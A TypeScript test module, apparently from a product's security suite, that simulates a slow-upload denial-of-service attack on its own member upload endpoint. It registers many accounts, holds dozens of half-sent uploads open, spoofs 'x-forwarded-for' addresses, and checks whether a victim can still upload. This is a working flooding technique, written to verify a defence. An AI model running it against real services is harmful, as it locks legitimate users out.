import { randomBytes } from 'node:crypto';
import { request, type ClientRequest } from 'node:http';
import { hashFile, sealAssetRequest } from '@holdfast/secure-channel/node';
import type { Attack } from './attack.ts';
import { AttackersDevice, withBooks } from './device.ts';

/** A PDF, which is stored as it is: the smallest file that the product takes without a picture library here. */
const FILE = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const BOUNDARY = 'a-boundary';
const BODY = Buffer.concat([
  Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n`,
  ),
  FILE,
  Buffer.from(`\r\n--${BOUNDARY}--\r\n`),
]);
/** More than a process receives at once, four of each account. */
const ACCOUNTS = 20;
const UPLOADS_EACH = 4;
/** What a member with a picture in hand waits. The uploader asks again by itself after a 503. */
const PATIENCE_MS = 8000;

type Token = { readonly host: string; readonly path: string; readonly serviceId: string } & Parameters<
  typeof sealAssetRequest
>[0];

function open(token: Token, address: string): ClientRequest {
  const { host, path, serviceId } = token;
  const authorization = sealAssetRequest(token, {
    method: 'POST',
    path,
    serviceId,
    now: Date.now(),
    file: hashFile(FILE),
    at: 0,
  });
  return request(`${host}${path}`, {
    method: 'POST',
    agent: false,
    headers: {
      authorization,
      'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
      'content-length': BODY.length,
      'x-forwarded-for': address,
    },
  });
}

/** Sends it whole; whether it was stored. */
function send(token: Token, address: string): Promise<boolean> {
  return new Promise((done) => {
    const sent = open(token, address);
    sent.on('error', () => done(false));
    sent.on('response', (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('close', () => done(Buffer.concat(chunks).includes('"isStored":true')));
    });
    sent.end(BODY);
  });
}

const sleep = (ms: number) => new Promise((done) => setTimeout(done, ms));

/** Nobody may keep members from sending their papers by beginning many uploads and sending next to nothing. */
export const attack: Attack = {
  name: 'keep everybody else from uploading by many uploads that hang',
  run: (target) =>
    withBooks(target, async (books) => {
      const victim = await AttackersDevice.register(target, books);
      const attackers: AttackersDevice[] = [];
      while (attackers.length < ACCOUNTS) attackers.push(await AttackersDevice.register(target, books));
      const tokens = await Promise.all(
        attackers.flatMap((attacker) =>
          Array.from({ length: UPLOADS_EACH }, () =>
            attacker.call('/member/upload-file-token', { purpose: 'order-proof' }),
          ),
        ),
      );
      const token = await victim.call('/member/upload-file-token', { purpose: 'order-proof' });
      let isOver = false;
      const hanging = new Set<ClientRequest>();
      // One that is ended begins again at once, from an address of its own in the attackers' four networks.
      const hang = (one: Token, network: number): void => {
        if (isOver) return;
        const sent = open(one, `10.${network}.7.${1 + ((randomBytes(1)[0] ?? 0) % 250)}`);
        hanging.add(sent);
        sent.on('error', () => {});
        sent.on('close', () => {
          hanging.delete(sent);
          setTimeout(() => hang(one, network), 50);
        });
        sent.write(BODY.subarray(0, 20));
      };
      for (const [index, one] of tokens.entries()) hang(one, index % 4);
      await sleep(1500);
      try {
        const end = Date.now() + PATIENCE_MS;
        while (Date.now() < end) {
          if (await send(token, '192.0.2.9')) return 'refused';
          await sleep(500);
        }
        return `a member could not send a file for ${PATIENCE_MS / 1000} s`;
      } finally {
        isOver = true;
        for (const sent of hanging) sent.destroy();
      }
    }),
};
